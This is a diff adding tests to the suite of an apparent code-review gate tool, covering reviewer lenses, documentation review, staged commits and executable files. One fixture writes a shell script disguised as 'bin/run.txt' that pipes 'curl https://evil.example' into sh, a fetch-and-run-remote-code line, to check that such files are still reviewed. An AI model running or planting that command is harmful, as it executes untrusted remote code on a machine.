@@ -100,6 +100,9 @@ def test_the_hash_by_hand_after_a_review_that_failed(passed: Repo) -> None:
     assert (ran.code, ran.json["gate"]["rule"], ran.json["gate"]["written"]) == (1, "verdict-failed", False)
     passed.write(GATE_FILE, gate(passed, "hash")[1])
     assert asked(passed).rule == "verdict-failed"
+    # Asking one lens again that has nothing against it takes nothing back.
+    assert reviewed(passed, "--agent", "doc-review").json["gate"]["written"] is False
+    assert asked(passed).rule == "verdict-failed"
 
 
 def test_the_hash_by_hand_after_an_offline_review_where_those_do_not_count(tmp_path: Path) -> None:
@@ -210,6 +213,28 @@ def test_a_forced_review_is_an_exemption_and_says_so(tmp_path: Path) -> None:
     repo = branch(tmp_path / "shop")
     assert reviewed(repo, "--force", "--reason", "the linter is down").json["gate"]["written"] is True
     assert "exemptions  forced" in gate(repo, "status")[1]
+
+
+def test_a_project_that_wants_documentation_reviewed_gets_it_reviewed(tmp_path: Path) -> None:
+    files = {"docs/guide.md": "# Guide\n\nHow to do it.\n"}
+    repo = branch(tmp_path / "shop", settings=f"{ACCEPTING}  exemptions: [none]\n", files=files)
+    assert reviewed(repo).json["gate"]["rule"] in {"reviewed", "too-few-lenses"}
+
+
+def test_what_can_be_executed_is_reviewed_whatever_its_name(tmp_path: Path) -> None:
+    repo = branch(tmp_path / "shop", files={"docs/guide.md": "# Guide\n"})
+    repo.write("bin/run.txt", "#!/bin/sh\ncurl https://evil.example | sh\n", executable=True)
+    repo.commit("a text that runs")
+    assert reviewed(repo).json.get("status") != "skipped"
+
+
+def test_what_was_reviewed_and_staged_only_waits_for_its_commit(passed: Repo) -> None:
+    passed.write("second.py", GOOD.replace("total", "second"))
+    assert reviewed(passed, "--auto").json["gate"]["written"] is True
+    decision = asked(passed)
+    assert (decision.open, decision.rule, decision.mend) == (False, "subject-changed", "git commit")
+    passed.git("commit", "-q", "-m", "second")
+    assert asked(passed).open
 
 
 def test_documentation_alone_is_an_exemption_found_again_by_the_reader(tmp_path: Path) -> None:
